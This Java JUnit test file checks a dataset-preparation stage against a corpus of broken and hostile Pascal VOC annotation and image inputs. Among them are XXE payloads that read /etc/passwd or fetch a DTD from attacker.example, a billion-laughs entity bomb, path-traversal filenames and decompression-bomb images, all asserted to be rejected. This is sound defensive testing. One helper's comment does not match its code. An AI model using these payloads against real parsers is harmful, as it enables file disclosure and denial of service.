package org.yolofleet.dataset;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.yolofleet.core.image.SampleImages;
import org.yolofleet.core.image.TestPictures;
import org.yolofleet.core.quarantine.QuarantineEntry;
import org.yolofleet.core.quarantine.QuarantineReason;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.yolofleet.core.quarantine.QuarantineReason.Severity.REJECT_IMAGE;
import static org.yolofleet.core.quarantine.QuarantineReason.Severity.REJECT_OBJECT;
import static org.yolofleet.core.quarantine.QuarantineReason.Severity.WARNING;

/**
 * The bad-input corpus: every kind of broken record the prepare stage must catch, each processed next to good
 * records. Each case asserts its exact reason, what is kept, and that the good records still arrive untouched.
 */
class BadInputCorpusTest {
    private static final RecordRules RULES = RecordRules.withDefaults(List.of("circle", "square", "triangle"),
            Map.of("disc", "circle"));
    private static final String CASE = "case";

    /**
     * One corpus case: the annotation {@code case.xml}, the image files beside it, and what must come out.
     *
     * @param reasons     every quarantine reason the record must yield, exactly (empty: a clean pass)
     * @param keptObjects objects kept, or -1 when the whole record must be rejected
     */
    record Case(String name, byte[] xml, Map<String, byte[]> images, List<QuarantineReason> reasons, int keptObjects) {
        @Override
        public String toString() {
            return name + " -> " + (reasons.isEmpty() ? "kept, no entry" : reasons);
        }
    }

    static Stream<Case> corpus() {
        byte[] jpeg = TestPictures.jpeg(TestPictures.twoBoxes());
        Map<String, byte[]> image = Map.of("case.jpg", jpeg);
        String plain = VocXml.annotation("case.jpg").size(160, 120).twoBoxes().text();
        return Stream.of(
                // the annotation file
                rejected("xxe external entity", plain.replace("<annotation>", "<?xml version=\"1.0\"?>\n<!DOCTYPE annotation [\n"
                        + "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n<annotation>").replace("<folder>JPEGImages", "<folder>&xxe;"),
                        image, QuarantineReason.XML_FORBIDDEN_DOCTYPE),
                rejected("xxe external DTD", "<!DOCTYPE annotation SYSTEM \"http://attacker.example/evil.dtd\">\n" + plain, image,
                        QuarantineReason.XML_FORBIDDEN_DOCTYPE),
                rejected("billion laughs", billionLaughs(plain), image, QuarantineReason.XML_FORBIDDEN_DOCTYPE),
                rejected("truncated XML", plain.substring(0, plain.indexOf("<bndbox>") + 12), image, QuarantineReason.XML_MALFORMED),
                rejected("undeclared entity", plain.replace("JPEGImages", "&nbsp;"), image, QuarantineReason.XML_MALFORMED),
                new Case("empty XML", new byte[0], image, List.of(QuarantineReason.XML_EMPTY), -1),
                rejected("white space only XML", " \n\t \n", image, QuarantineReason.XML_EMPTY),
                new Case("UTF-8 declared, invalid bytes", concat("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n".getBytes(StandardCharsets.UTF_8),
                        plain.replace("JPEGImages", "Café").getBytes(StandardCharsets.ISO_8859_1)), image,
                        List.of(QuarantineReason.XML_ENCODING), -1),
                rejected("unknown encoding", "<?xml version=\"1.0\" encoding=\"X-NO-SUCH-CHARSET\"?>\n" + plain, image,
                        QuarantineReason.XML_ENCODING),
                new Case("ISO-8859-1 declared and valid passes", ("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n"
                        + plain.replace("JPEGImages", "Café Crème")).getBytes(StandardCharsets.ISO_8859_1), image, List.of(), 2),
                new Case("UTF-16 with a byte order mark passes", ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n" + plain)
                        .getBytes(StandardCharsets.UTF_16), image, List.of(), 2),
                rejected("not a VOC annotation", "<html><body>case.jpg</body></html>", image, QuarantineReason.XML_MISSING_FIELD),
                // finding the image
                rejected("missing image", plain, Map.of(), QuarantineReason.ANNOTATION_WITHOUT_IMAGE),
                rejected("path traversal with ../", plain.replace("<filename>case.jpg", "<filename>../../../etc/passwd"), image,
                        QuarantineReason.PATH_TRAVERSAL),
                rejected("path traversal with ..\\", plain.replace("<filename>case.jpg", "<filename>..\\..\\case.jpg"), image,
                        QuarantineReason.PATH_TRAVERSAL),
                rejected("absolute filename", plain.replace("<filename>case.jpg", "<filename>/var/data/case.jpg"), image,
                        QuarantineReason.PATH_TRAVERSAL),
                rejected("absolute Windows filename", plain.replace("<filename>case.jpg", "<filename>C:\\data\\case.jpg"), image,
                        QuarantineReason.PATH_TRAVERSAL),
                kept("<filename> not found, XML basename found", plain.replace("<filename>case.jpg", "<filename>DSC_0042.JPG"), image, 2,
                        QuarantineReason.FILENAME_MISMATCH),
                kept("no <filename>, XML basename found", VocXml.annotation(null).size(160, 120).twoBoxes().text(), image, 2,
                        QuarantineReason.FILENAME_MISMATCH),
                kept("<filename> without extension", plain.replace("<filename>case.jpg", "<filename>case"), image, 2),
                // the image file
                rejected("zero-byte image", plain, Map.of("case.jpg", new byte[0]), QuarantineReason.IMAGE_EMPTY),
                rejected("truncated JPEG", plain, Map.of("case.jpg", Arrays.copyOf(jpeg, jpeg.length * 2 / 3)),
                        QuarantineReason.IMAGE_TRUNCATED),
                rejected("truncated PNG", plain, Map.of("case.jpg", cut(SampleImages.png(TestPictures.twoBoxes()))),
                        QuarantineReason.IMAGE_TRUNCATED),
                rejected("not an image", plain, Map.of("case.jpg", "GIF? no: plain text".getBytes(StandardCharsets.US_ASCII)),
                        QuarantineReason.IMAGE_UNDECODABLE),
                rejected("decompression bomb PNG", plain.replace("case.jpg", "case.png"),
                        Map.of("case.png", SampleImages.pngBomb(100_000, 100_000)), QuarantineReason.IMAGE_TOO_LARGE),
                rejected("decompression bomb JPEG", plain, Map.of("case.jpg", TestPictures.withDeclaredJpegSize(jpeg, 65_000, 65_000)),
                        QuarantineReason.IMAGE_TOO_LARGE),
                kept("wrong extension: PNG named .jpg", plain, Map.of("case.jpg", SampleImages.png(TestPictures.twoBoxes())), 2,
                        QuarantineReason.WRONG_EXTENSION, QuarantineReason.FORMAT_CONVERTED),
                kept("grayscale JPEG", plain, Map.of("case.jpg", SampleImages.grayscaleJpeg(TestPictures.twoBoxes(), 95)), 2,
                        QuarantineReason.CONVERTED_GRAYSCALE),
                kept("CMYK JPEG (Adobe)", plain, Map.of("case.jpg", SampleImages.adobeCmykJpeg(TestPictures.twoBoxes(), false, 95)), 2,
                        QuarantineReason.CONVERTED_CMYK),
                kept("YCCK JPEG (Adobe)", plain, Map.of("case.jpg", SampleImages.adobeCmykJpeg(TestPictures.twoBoxes(), true, 95)), 2,
                        QuarantineReason.CONVERTED_CMYK),
                kept("16-bit PNG", plain.replace("case.jpg", "case.png"), Map.of("case.png", SampleImages.png16Bit(TestPictures.twoBoxes())),
                        2, QuarantineReason.CONVERTED_16_BIT, QuarantineReason.FORMAT_CONVERTED),
                kept("palette PNG", plain.replace("case.jpg", "case.png"), Map.of("case.png", palettePng()), 2,
                        QuarantineReason.CONVERTED_PALETTE, QuarantineReason.FORMAT_CONVERTED),
                kept("transparent PNG", plain.replace("case.jpg", "case.png"), Map.of("case.png", transparentPng()), 2,
                        QuarantineReason.ALPHA_REMOVED, QuarantineReason.FORMAT_CONVERTED),
                kept("EXIF-rotated JPEG", plain, Map.of("case.jpg", SampleImages.withExifOrientation(jpeg, 6)), 2,
                        QuarantineReason.EXIF_ORIENTATION_APPLIED),
                kept("<size> disagrees with the image", plain.replace("<width>160", "<width>640").replace("<height>120", "<height>480"),
                        image, 2, QuarantineReason.SIZE_MISMATCH),
                // objects
                kept("NaN coordinate", secondBox(170, "NaN", 150, 60), image, 1, QuarantineReason.BOX_NOT_FINITE),
                kept("coordinate that is not a number", secondBox("1O0", 20, 150, 60), image, 1, QuarantineReason.BOX_NOT_FINITE),
                kept("infinite coordinate", secondBox(100, 20, "1e999", 60), image, 1, QuarantineReason.BOX_NOT_FINITE),
                kept("negative coordinates", secondBox(-30, 20, 150, 60), image, 1, QuarantineReason.BOX_NEGATIVE),
                kept("inverted box", secondBox(150, 20, 100, 60), image, 1, QuarantineReason.BOX_INVERTED),
                kept("zero-area box", secondBox(100, 20, 150, 20), image, 1, QuarantineReason.BOX_ZERO_AREA),
                kept("box outside the image", secondBox(100, 20, 200, 60), image, 1, QuarantineReason.BOX_OUTSIDE_IMAGE),
                kept("box wholly right of the image", secondBox(161, 20, 162, 60), image, 1, QuarantineReason.BOX_OUTSIDE_IMAGE),
                kept("box slightly outside, clipped", secondBox(100, -1.5, 161, 60), image, 2, QuarantineReason.BOX_CLIPPED),
                kept("box too small", secondBox(100, 20, 101, 60), image, 1, QuarantineReason.BOX_TOO_SMALL),
                kept("unknown class", plain.replace("<name>square", "<name>hexagon"), image, 1, QuarantineReason.UNKNOWN_CLASS),
                kept("class name with another case is unknown", plain.replace("<name>square", "<name>Square"), image, 1,
                        QuarantineReason.UNKNOWN_CLASS),
                kept("alias applied", plain.replace("<name>circle", "<name>disc"), image, 2, QuarantineReason.ALIAS_APPLIED),
                kept("missing coordinate", plain.replace("<ymax>60</ymax>", ""), image, 1, QuarantineReason.OBJECT_MISSING_FIELD),
                kept("missing class name", plain.replace("<name>square</name>", ""), image, 1, QuarantineReason.OBJECT_MISSING_FIELD),
                kept("no objects: a negative", VocXml.annotation("case.jpg").size(160, 120).text(), image, 0, QuarantineReason.NO_OBJECTS),
                rejected("every object rejected: not a negative", plain.replace("<name>circle", "<name>hexagon")
                        .replace("<ymax>60</ymax>", ""), image, QuarantineReason.ALL_OBJECTS_REJECTED));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void recordGetsItsExactReasonAndGoodRecordsStillArrive(Case corpusCase) {
        Map<String, byte[]> files = new HashMap<>(goodImages());
        files.putAll(corpusCase.images());
        InMemoryImageStore store = new InMemoryImageStore(files);
        VocRecordProcessor processor = new VocRecordProcessor(RULES);

        PrepareOutcome outcome = processor.process("corpus", "Annotations/" + CASE + ".xml", corpusCase.xml(), store);

        List<QuarantineReason> reasons = outcome.quarantineEntries().stream().map(QuarantineEntry::reason).toList();
        assertThat(reasons).as(outcome.quarantineEntries().toString()).containsExactlyInAnyOrderElementsOf(corpusCase.reasons());
        if (corpusCase.keptObjects() < 0) {
            assertThat(outcome.image()).isEmpty();
            assertThat(outcome.rejections()).singleElement().satisfies(rejection -> {
                assertThat(rejection.reason().severity()).isEqualTo(REJECT_IMAGE);
                assertThat(rejection.objectIndex()).isEqualTo(QuarantineEntry.WHOLE_RECORD);
                assertThat(rejection.detail()).isNotBlank();
            });
        } else {
            PreparedImage kept = outcome.image().orElseThrow();
            assertThat(kept.objects()).hasSize(corpusCase.keptObjects());
            assertThat(kept.imageId()).isEqualTo(CASE);
            assertThat(outcome.rejections()).allSatisfy(rejection -> assertThat(rejection.reason().severity()).isEqualTo(REJECT_OBJECT));
            assertThat(kept.warnings()).allSatisfy(warning -> assertThat(warning.reason().severity()).isEqualTo(WARNING));
            assertThat(TestPictures.decode(kept.jpegBytes()).getWidth()).isEqualTo(kept.width());
        }
        assertThat(outcome.quarantineEntries()).allSatisfy(entry -> assertThat(entry.source()).isEqualTo("corpus"));

        for (Map.Entry<String, Integer> good : Map.of("good_a", 2, "good_b", 1).entrySet()) {
            PrepareOutcome goodOutcome = processor.process("corpus", "Annotations/" + good.getKey() + ".xml",
                    goodAnnotations().get(good.getKey()), store);
            assertThat(goodOutcome.quarantineEntries()).as(good.getKey()).isEmpty();
            assertThat(goodOutcome.image().orElseThrow().objects()).hasSize(good.getValue());
        }
    }

    @ParameterizedTest(name = "orientation {0}")
    @ValueSource(ints = {2, 3, 4, 5, 6, 7, 8})
    void exifRotatedBoxesStayOnTheirPixels(int orientation) {
        // stored frame: 160x100, a red box at (20, 10)-(60, 40) and a blue one at (100, 50)-(150, 95)
        BufferedImage stored = TestPictures.picture(160, 100, new int[] {20, 10, 60, 40}, TestPictures.RED,
                new int[] {100, 50, 150, 95}, TestPictures.BLUE);
        byte[] rotated = SampleImages.withExifOrientation(TestPictures.jpeg(stored), orientation);
        byte[] xml = VocXml.annotation("case.jpg").size(160, 100).object("circle", 20, 10, 60, 40)
                .object("square", 100, 50, 150, 95).bytes();

        PrepareOutcome outcome = new VocRecordProcessor(RULES).process("corpus", "Annotations/case.xml", xml,
                InMemoryImageStore.of("case.jpg", rotated));

        PreparedImage image = outcome.image().orElseThrow();
        assertThat(image.warnings()).extracting(QuarantineEntry::reason).containsExactly(QuarantineReason.EXIF_ORIENTATION_APPLIED);
        boolean swapped = orientation >= 5;
        assertThat(image.width()).isEqualTo(swapped ? 100 : 160);
        assertThat(image.height()).isEqualTo(swapped ? 160 : 100);
        BufferedImage upright = TestPictures.decode(image.jpegBytes());
        assertBoxOnColor(upright, image.objects().get(0), TestPictures.RED);
        assertBoxOnColor(upright, image.objects().get(1), TestPictures.BLUE);
    }

    @Test
    void boxesAlreadyUprightAreNotTurnedAgainWhenSizeNamesTheUprightImage() {
        BufferedImage stored = TestPictures.picture(160, 100, new int[] {20, 10, 60, 40}, TestPictures.RED);
        byte[] rotated = SampleImages.withExifOrientation(TestPictures.jpeg(stored), 6);
        // orientation 6 turns the stored (20, 10)-(60, 40) into (60, 20)-(90, 60) of a 100x160 upright image
        byte[] xml = VocXml.annotation("case.jpg").size(100, 160).object("circle", 60, 20, 90, 60).bytes();

        PreparedImage image = new VocRecordProcessor(RULES).process("corpus", "Annotations/case.xml", xml,
                InMemoryImageStore.of("case.jpg", rotated)).image().orElseThrow();

        assertThat(image.objects()).singleElement().isEqualTo(new PreparedObject(0, "circle", 60, 20, 90, 60, false, false));
        assertThat(image.warnings()).singleElement().satisfies(warning -> {
            assertThat(warning.reason()).isEqualTo(QuarantineReason.EXIF_ORIENTATION_APPLIED);
            assertThat(warning.detail()).contains("not turned");
        });
        assertBoxOnColor(TestPictures.decode(image.jpegBytes()), image.objects().get(0), TestPictures.RED);
    }

    @ParameterizedTest(name = "ycck {0}")
    @ValueSource(booleans = {false, true})
    void cmykJpegKeepsItsColours(boolean ycck) {
        Color green = new Color(30, 180, 60);
        Color gray = new Color(128, 128, 128);
        BufferedImage picture = TestPictures.picture(160, 120, new int[] {0, 0, 80, 60}, TestPictures.RED, new int[] {80, 0, 160, 60},
                green, new int[] {0, 60, 80, 120}, TestPictures.BLUE, new int[] {80, 60, 160, 120}, gray);
        byte[] cmyk = SampleImages.adobeCmykJpeg(picture, ycck, 95);
        byte[] xml = VocXml.annotation("case.jpg").size(160, 120).object("circle", 0, 0, 80, 60).bytes();

        PreparedImage image = new VocRecordProcessor(RULES).process("corpus", "Annotations/case.xml", xml,
                InMemoryImageStore.of("case.jpg", cmyk)).image().orElseThrow();

        BufferedImage rgb = TestPictures.decode(image.jpegBytes());
        assertThat(TestPictures.distance(rgb.getRGB(40, 30), TestPictures.RED)).isLessThanOrEqualTo(12);
        assertThat(TestPictures.distance(rgb.getRGB(120, 30), green)).isLessThanOrEqualTo(12);
        assertThat(TestPictures.distance(rgb.getRGB(40, 90), TestPictures.BLUE)).isLessThanOrEqualTo(12);
        assertThat(TestPictures.distance(rgb.getRGB(120, 90), gray)).isLessThanOrEqualTo(12);
        assertThat(image.warnings()).extracting(QuarantineEntry::reason).containsExactly(QuarantineReason.CONVERTED_CMYK);
    }

    /** Inside the box (2 px in) the colour; around it (2 px out) white. */
    private static void assertBoxOnColor(BufferedImage image, PreparedObject box, Color color) {
        int inset = 3;
        for (int y = (int) box.ymin() + inset; y < box.ymax() - inset; y++) {
            for (int x = (int) box.xmin() + inset; x < box.xmax() - inset; x++) {
                assertThat(TestPictures.distance(image.getRGB(x, y), color)).as("inside %s at %d,%d", box, x, y).isLessThan(40);
            }
        }
        for (int x = (int) box.xmin() - inset; x <= box.xmax() + inset; x++) {
            for (int y : new int[] {(int) box.ymin() - inset, (int) box.ymax() + inset - 1}) {
                if (x >= 0 && y >= 0 && x < image.getWidth() && y < image.getHeight()) {
                    assertThat(TestPictures.distance(image.getRGB(x, y), Color.WHITE)).as("outside %s at %d,%d", box, x, y).isLessThan(40);
                }
            }
        }
    }

    private static Map<String, byte[]> goodImages() {
        return Map.of("good_a.jpg", TestPictures.jpeg(TestPictures.twoBoxes()),
                "good_b.jpg", TestPictures.jpeg(TestPictures.picture(120, 160, new int[] {10, 10, 60, 150}, TestPictures.BLUE)));
    }

    private static Map<String, byte[]> goodAnnotations() {
        return Map.of("good_a", VocXml.annotation("good_a.jpg").size(160, 120).twoBoxes().bytes(),
                "good_b", VocXml.annotation("good_b.jpg").size(120, 160).object("triangle", 10, 10, 60, 150).bytes());
    }

    private static Case rejected(String name, String xml, Map<String, byte[]> images, QuarantineReason reason) {
        return new Case(name, xml.getBytes(StandardCharsets.UTF_8), images, List.of(reason), -1);
    }

    private static Case kept(String name, String xml, Map<String, byte[]> images, int objects, QuarantineReason... reasons) {
        return new Case(name, xml.getBytes(StandardCharsets.UTF_8), images, List.of(reasons), objects);
    }

    private static String secondBox(Object xmin, Object ymin, Object xmax, Object ymax) {
        return VocXml.annotation("case.jpg").size(160, 120).object("circle", 20, 30, 70, 90).object("square", xmin, ymin, xmax, ymax)
                .text();
    }

    private static String billionLaughs(String plain) {
        StringBuilder entities = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n  <!ENTITY lol \"lol\">\n");
        String previous = "lol";
        for (int level = 1; level <= 9; level++) {
            entities.append("  <!ENTITY lol").append(level).append(" \"").append(("&" + previous + ";").repeat(10)).append("\">\n");
            previous = "lol" + level;
        }
        return entities.append("]>\n").append(plain.replace("<folder>JPEGImages", "<folder>&lol9;")).toString();
    }

    /** The JPEG with its frame header changed to declare another size (the data stays small). */
    private static byte[] cut(byte[] bytes) {
        return Arrays.copyOf(bytes, bytes.length * 3 / 5);
    }

    private static byte[] palettePng() {
        BufferedImage palette = new BufferedImage(160, 120, BufferedImage.TYPE_BYTE_INDEXED);
        Graphics2D graphics = palette.createGraphics();
        graphics.drawImage(TestPictures.twoBoxes(), 0, 0, null);
        graphics.dispose();
        return SampleImages.png(palette);
    }

    private static byte[] transparentPng() {
        BufferedImage transparent = new BufferedImage(160, 120, BufferedImage.TYPE_INT_ARGB);
        Graphics2D graphics = transparent.createGraphics();
        graphics.setColor(TestPictures.RED);
        graphics.fillRect(20, 30, 50, 60);
        graphics.setColor(TestPictures.BLUE);
        graphics.fillRect(100, 20, 50, 40);
        graphics.dispose();
        return SampleImages.png(transparent);
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] joined = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, joined, first.length, second.length);
        return joined;
    }
}
